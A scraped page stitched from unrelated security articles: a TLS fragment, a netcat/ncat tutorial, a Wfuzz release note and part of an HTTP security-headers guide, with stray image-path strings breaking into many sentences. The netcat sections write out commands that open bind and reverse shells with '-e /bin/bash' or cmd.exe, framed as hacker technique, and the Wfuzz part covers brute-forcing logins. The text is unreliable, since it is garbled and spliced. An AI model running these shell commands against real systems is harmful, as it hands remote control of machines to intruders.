As you can see, the asymmetry of the keys allows the server to encrypt messages to the client using the public key. The client can then prove that it holds the private key by decrypting the message correctly. The two types of encryption that are used (symmetric shared secret, and asymmetric public-private keys) are each able to leverage their specific strengths in this model.

Netcat : Introduction

Netcat is a terminal application that is similar to the telnet program but has lot morefeatures. Its a “power version” of the traditional telnet program. Apart from basic telnet functionas it can do various other things like creating socket servers to listen for incoming connections on ports, transfer files from the terminal etc. So it is a small tool that is packed with lots of features. Therefore its called the “Swiss-army knife for TCP/IP”.
In the Netcat manual, it is defined as:
Netcat is acomputer networking service for reading from and writing network connections using TCP or UDP. Netcat is designed to be a dependable “back-end” device that can be used directly or easily driven by other programs and scripts. At the same time, it is a feature-rich network debugging and investigation tool, since it can produce almost any kind of correlation you would need and has a number of built-in capabilities.
So basically netcat is a tool to do some bidirectional network communication over the TCP/UDP protocols. More technically speaking, netcat can act as a socket server or client and interact with other programs at the same time sending and receiving data through the network. Such a definition sounds too generic and make it difficult to understand what exactly this tool does and what is it useful for. This can be understood only by using and playing with it.
So the first thing to do would be to setup netcat on your machine. Netcat comes in various flavors. Means it is available from multiple vendors. But most of them have similar functionality. On ubuntu there are 3 packagescalled netcat-openbsd, netcat-traditional and ncat.
My preferred version is ncat. Ncat has been developed by the nmap team is the best of all netcats available and most importantly its cross platform and works very well on windows.

Ncat – Netcat for the 21st Century

Ncat is a feature-packed networking utility which reads and writes data across networks from the command line. Ncat was written for the Nmap Project as a much-improved reimplementation ofthe venerable Netcat. It uses both TCP and UDP for communication and is designed to be a reliable back-end tool to instantly provide network connectivity to other applications and users. Ncat will not only work with IPv4 and IPv6 but provides the user with a virtually limitless number of potential uses.
Download and install netcat
Windows version of netcat can be downloaded from here, simply download and extract the files somewhere suitable.
Or download ncat windows version from ncat
Ubuntu syntaptic package has netcat-openbsd and netcat-traditional packages available. Install both of them. Nmap also comes with a netcat implementation called ncat. Install that too.
Project websites
Install on Ubuntu
sudo apt-getinstall netcat-traditional netcat-openbsd nmap
To use netcat-openbsd implementation use “nc” command.
To use netcat-traditional implementation use “nc.traditional” command
To use nmap ncat use the “ncat” command.
In the following tutorial we are going to use all of them in different examples in different ways.

1. Telnet

The very first thing netcat can be used as is a telnet program. Lets see how.
nc -v 80
Now netcat is connected to on port 80 and its time to send some message. Lets try to fetch the index page. For this type “GET index.html HTTP/1.1″ and hit the Enter key twice. Remember twice.
nc -v 80
Connection to 80 port [tcp/http] succeeded!
GET index.html HTTP/1.1
HTTP/1.1 302 Found
Cache-Control: private
Content-Type: text/html; charset=UTF-8
X-Content-Type-Options: nosniff
Date: Sat, 18 Aug 2012 06:03:04 GMT
Server: sffe
Content-Length: 219X-XSS-Protection: 1; mode=block

<HTML><HEAD><meta http-equiv="content-type" content="text/html;charset=utf-8">
<H1>302 Moved</H1>
The document has moved
<A HREF="">here</A>.
The output from has been received and echoed on the terminal.

2. Simple socket server

To open a simple socket server type in the following command.
 nc -l -v 1234
The above command means : Netcat listen to TCP port 1234. The -v option gives verbose output for better understanding. Now from anotherterminal try to connect to port 1234 using telnet command as follows :
telnet localhost 1234
Connected to localhost.
Escape character is ‘^]’.
ting tong
After connecting we send some test message like abc and ting tong to the netcat socket server. The netcat socket server will echo the data received from the telnet client.
nc -l -v 5555
Connection from port 5555 [tcp/rplay] accepted
ting tong
This is a complete Chatting System. Type something in netcat terminal and it will show up in telnet terminal as well. So this technique can be used for chatting between 2 machines.
Complete ECHO Server
Ncat with the -c option can be used to start a echo server. Source
Start the echo server using ncat as follows
 ncat -v -l -p 5555 -c ‘while true; do read i && echo [echo] $i; done’
Now from another terminal connect using telnet and type something. It will be send back with “[echo]” prefixed.
The netcat-openbsd version does not have the -c option. Remember to always use the -v option for verbose output.
Note : Netcat can be told to save the data to a fileinstead of echoing it to the terminal.
 nc -l -v 1234 > data.txt
UDP ports
Netcat works with udp ports as well. To start a netcat server using udp ports use the -u option
 nc -v -ul 7000
Connect to this server using netcat from another terminal
 nc localhost -u 7000
Now both terminals can chat with each other.

3. File transfer

A whole file can be transferred with netcat. Here is a quick example.
One machine A – Send File
 cat happy.txt | ncat -v -l -p 5555
Ncat: Version 5.21 ( )
Ncat: Listening on
In the above command, the cat command reads and outputs the content of happy.txt. The output is not echoed to the terminal, instead is piped or fed to ncat which has opened a socket server on port 5555.
On machine B – Receive File
 ncat localhost 5555 > happy_copy.txt
In the above command ncat will connect to localhost on port 5555 and whatever it receives will be written to happy_copy.txt
Now happy_copy.txt will be a copy of happy.txt since the data being send over port 5555 is the content of happy.txt in the previous command.
Netcat will send the file only to the first client that connects to it. After that its over.
And after the first client closes down connection, netcat server will also close down the connection.

4. Port scanning

Netcat can also be used for port scanning. However this is not a proper use of netcat and a more applicable tool like nmap should be used.nc -v -n -z -w 1 75-85
nc: connect to port 75 (tcp) failed: Connection refused
nc: connect to port 76 (tcp) failed: Connection refused
nc: connect to port 77 (tcp) failed: Connection refused
nc: connect to port 78 (tcp) failed: Connection refused
nc: connect to port 79 (tcp) failed: Connection refused
Connection to 80 port [tcp/*] succeeded!
nc: connect to port 81 (tcp) failed: Connection refused
nc: connect to port 82 (tcp) failed:Connection refused
nc: connect to port 83 (tcp) failed: Connection refused
nc: connect to port 84 (tcp) failed: Connection refused
nc: connect to port 85 (tcp) failed: Connection refused
The “-n” parameter here prevents DNS lookup, “-z” makes nc not receive any data from the server, and “-w 1″ makes the connection timeout after 1 second of inactivity.

5. Remote Shell/Backdoor

Ncat can be used to start a basic shell on a remote system on a port without the need of ssh. Here is a quick example.
 ncat -v -l -p 7777 -e /bin/bash
The above will start a server on port 7777 and will pass all incoming input to bash command and the results will be send back. The command basically converts the bash program into a server. So netcat can be used to convert any process into a server.
Connect to this bash shell using nc from another terminal
 nc localhost 7777
Now try executing any command like help , ls , pwd etc.
On windows machine the cmd.exe (dos prompt program) is used to start a similar shell using netcat. The syntax of the command is same.
C:\tools\nc>nc -v -l -n -p 8888 -e cmd.exe
listening on [any] 8888 …
connect to [] from (UNKNOWN) [] 1182
Now another console can connect using the telnet command.
Although netcat though can be used to setup remote shells, is not useful to get an interactive shell on a remote system because in most cases netcat would not be installed on a remote system.
The most effective method to get a shell on a remote machine using netcat isby creating reverse shells.

6. Reverse Shells

This is the most powerful feature of netcat for which it is most used by hackers. Netcat is used in almost all reverse shell techniques to catch the reverse connection of shell program from a hacked system.
Reverse telnet
First lets take an example of a simple reverse telnet connection. In ordinate telnet connection the client connects to the server to start a communication channel.
Your system runs (# telnet server port_number) ===> Server

Now using the above technique you can connect to say port 80 of the server to fetch a webpage. However ahacker is interested in getting a command shell. Its the command prompt of windows or the terminal of linux. The command shell gives ultimate control of the remote system. Now there is no service running on the remote server to which you can connect and get a command shell.
So when a hacker hacks into a system, he needs to get a command shell. Since its not possible directly, the solution is to use a reverse shell. In a reverse shell the server initiates a connection to the hacker’s machine and gives acommand shell.
Step 1 : Hacker machine (waiting for incoming connection)
Step 2 : Server ===> Hacker machine

To wait for incoming connections, a local socket listener has to be opened. Netcat/ncat can do this.
First a netcat server has to be started on local machine or thehacker’s machine.
machine A
 ncat -v -l -p 8888
Ncat: Version 6.00 ( )
Ncat: Listening on :::8888
Ncat: Listening on
The above will start a socket server (listener) on port 8888 on local machine/hacker’s machine.
Now a reverse shell has to be launched on the targetmachine/hacked machine. There are a number of ways to launch reverse shells.
For any method to work, the hacker either needs to be able to execute arbitrary command on the system or should be able to upload a file that can be executed by opening from the browser (like a php script).
In this example we are not doing either of the above mentioned things. We shall just run netcat on the server also to throw a reverse command shell to demonstrate the concept. So netcat should be installed on the server ortarget machine.
Machine B :
 ncat localhost 8888 -e /bin/bash
This command will connect to machine A on port 8888 and feed in the output of bash effectively giving a shell to machine A. Now machine A can execute any command on machine B.
Machine A
ncat -v -l -p 8888
Ncat: Version 5.21 ( )
Ncat: Listening on
Ncat: Connection from
In a real penetration testing scenario its not possible to run netcat on target machine. Therefore other techniques are employed to create a shell. These include uploading reverse shell php scripts and running them by opening them in browser. Or launching a buffer overflow exploit to execute reverse shell payload.

Wfuzz 2.1 released !

Wfuzz is a tool designed for bruteforcing Web Applications, it can be used for finding resources not linked (directories, servlets, scripts, etc.), bruteforce GET and POST parameters for checking different kind of injections, bruteforce forms parameters (User/Password), Fuzzing,etc.

The biggest change is that wfuzz now supports plugins, so you can code your scripts and improve or modify the application's functionality. For example, there is a plugin that parses links within the HTTP response and these will be added to the fuzzing queue. Check below how a single word "a" generates 8 different requests:

 $ python --script=links -z list,a--follow  http://localhost:8000/FUZZ
* Wfuzz 2.1 - The Web Bruteforcer                      *

Target: http://localhost:8000/FUZZ
Total requests: 1

ID      Response   Lines      Word         Chars          Request
00000:  C=200     17 L        89 W         1481 Ch        "a"
  |_ Plugin links enqueued 5 more requests (rlevel=1)
00001:  C=200     14 L        57 W          889 Ch        "/a/b/"
  |_ Plugin links enqueued 2 more requests (rlevel=2)
00002:  C=200      4 L        25 W          177 Ch        "/"
00003:  C=200      9 L         7 W           61 Ch        "/a/test.html"
00004:  C=200      4 L         6 W           47 Ch        "/a/test.js"
00005:  C=403     10 L        30 W          285 Ch        "/icons/"
00006:  C=200     17 L        89 W         1481 Ch        "/a/"
00007:  C=200     14L        57 W          895 Ch        "/a/b/c/"
  |_ Plugin links enqueued 1 more requests (rlevel=3)
00008:  C=200     13 L        46 W          716 Ch        "/a/b/c/d/"

Guidelines for Setting HTTP Security Headers



This response header can be used to configure a user-agent's built in reflective XSS protection. Currently, only Microsoft's Internet Explorer, Google Chrome and Safari (WebKit) support this header.

Valid Settings

  • 0 - Disables the XSS Protections offered by the user-agent.
  • 1 - Enables the XSS Protections
  • 1; mode=block - Enables XSS protections and instructs the user-agent to block the response in the event that script has been inserted from user input, instead of sanitizing.
  • 1; report= - A Chrome and WebKit only directive that tells the user-agent to report potential XSS attacks to a single URL. Data will be POST'd to the report URL in JSON format.

Common Invalid Settings

  • 0; mode=block; - A common misconfiguration where the 0 value will disable protections even though the mode=block is defined. It should be noted that Chrome has been enhanced to fail closed and treat this as an invalid setting but still keep default XSS protections in place.
  • 1 mode=block; - All directives must be separated by a ;. Spaces and , are invalid separators. However, IE and Chrome will default to sanitizing the XSS in this case but not enable blocking mode as everything after the 1 is considered invalid.

How To Test

Internet Explorer will display a dialog box if reflective XSS was detected and sanitized or blocked. Chrome will hide the output of the reflective XSS attack in the response when it is set to 1. When it is set to 1; mode=block, Chrome will redirect the user-agent to an empty data:, URL.

External References



This header can be set to protect against MIME type confusion attacks in Internet Explorer 9, Chrome and Safari. Firefox is currently debating the implementation. Content sniffing is a method browsersuse to attempt to determine the 'real' content type of a response by looking at the content itself, instead of the response header's content-type value. By returning X-Content-Type-Options: nosniff, certain elements will only load external resources if their content-type matches what is expected. As an example, if a stylesheet is being loaded, the MIME type of the resource must match "text/css". For script resources in Internet Explorer, the following content types are valid:
  1. application/ecmascript
  2. application/javascript
  3. application/x-javascript
  4. text/ecmascript
  5. text/javascript
  6. text/jscript
  7. text/x-javascript
